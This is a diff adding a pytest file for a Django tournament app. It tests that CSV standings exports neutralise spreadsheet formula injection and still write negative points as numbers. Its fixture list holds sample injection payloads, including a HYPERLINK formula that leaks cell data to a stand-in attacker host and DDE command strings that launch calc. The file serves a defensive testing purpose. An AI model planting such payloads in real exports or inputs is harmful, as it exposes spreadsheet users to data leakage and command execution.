@@ -1,0 +1,122 @@
+"""CSV for spreadsheets: every cell a spreadsheet would run as a formula is written as text
+(OWASP "CSV injection"), while numbers stay numbers."""
+
+import csv
+import io
+import re
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+
+from tests import factories
+from tests.tournaments.helpers import play
+from tournaments import exports
+from tournaments.models import Player, Tournament
+
+pytestmark = pytest.mark.django_db
+
+# What a spreadsheet runs, or reads as the start of a formula, when a cell begins with it.
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1;"Details")',
+    "+1",
+    "-cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tx",
+    "\rx",
+]
+
+
+def rows_of(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
+    assert exports.spreadsheet_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", [" =1+1", "  @SUM(A1)", "\n=1", "\0=1"])
+def test_a_formula_behind_spaces_or_a_control_character_is_written_as_text(value):
+    assert exports.spreadsheet_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Müller", "1+1", "Doko & Co.", "", "'quoted", "E-Mail"])
+def test_a_harmless_text_is_written_as_it_is(value):
+    assert exports.spreadsheet_cell(value) == value
+
+
+@pytest.mark.parametrize("value", [-3, 2, 0, -1.5, Decimal("-2.50")])
+def test_a_number_stays_a_number(value):
+    assert exports.spreadsheet_cell(value) == value
+
+
+def test_a_number_written_as_text_is_text():
+    """The type tells a number: points are passed as int, so a name "-3" is a name."""
+    assert exports.spreadsheet_cell("-3") == "'-3"
+    assert exports.spreadsheet_cell(None) == ""
+
+
+@pytest.fixture
+def hostile_tournament(django_capture_on_commit_callbacks) -> Tournament:
+    """Eight players, one round confirmed; six of them named and in clubs a spreadsheet would
+    run (written past the services' trimming, as an old row or the admin might hold them)."""
+    with django_capture_on_commit_callbacks(execute=True):
+        tournament = factories.tournament(players=8, name="Formelpokal")
+        entries = list(tournament.entries.order_by("start_number"))
+        for entry, value in zip(entries, HOSTILE, strict=False):
+            Player.objects.filter(pk=entry.player_id).update(
+                first_name=value, last_name=value, club=value
+            )
+        play(tournament)
+    return Tournament.objects.get(pk=tournament.pk)
+
+
+def test_the_standings_csv_neutralises_names_and_clubs(client, hostile_tournament):
+    client.cookies["django_language"] = "en"
+    response = client.get(reverse("standings-csv", args=[hostile_tournament.slug]))
+    header, *rows = rows_of(response.content.decode("utf-8-sig"))
+    name, club = header.index("Name"), header.index("Club")
+    assert len(rows) == 8
+    written = {(row[name], row[club]) for row in rows}
+    for value in HOSTILE:
+        assert (f"'{value} {value}", f"'{value}") in written
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row[:4])
+
+
+def test_the_standings_csv_writes_negative_points_as_numbers(client, hostile_tournament):
+    client.cookies["django_language"] = "en"
+    response = client.get(reverse("standings-csv", args=[hostile_tournament.slug]))
+    text = response.content.decode("utf-8-sig")
+    header, *rows = rows_of(text)
+    points = [row[header.index("Points")] for row in rows]
+    assert any(int(value) < 0 for value in points)
+    for value in points:
+        # unquoted and unprefixed: a spreadsheet reads -42 as the number -42
+        assert value.lstrip("-").isdigit()
+        assert f";{value};" in text
+    assert [int(row[header.index("Round 1")]) for row in rows] == [int(p) for p in points]
+
+
+def test_every_csv_is_written_by_the_one_writer():
+    """No export writes CSV past ``tournaments.exports`` (and its neutralising)."""
+    root = Path(__file__).resolve().parents[2]
+    apps = (
+        "doko",
+        "config",
+        "tournaments",
+        "scoring",
+        "adjudication",
+        "printing",
+        "backup",
+        "demo",
+    )
+    writers = [
+        str(path.relative_to(root))
+        for app in apps
+        for path in (root / app).rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
+    ]
+    assert writers == ["tournaments/exports.py"]
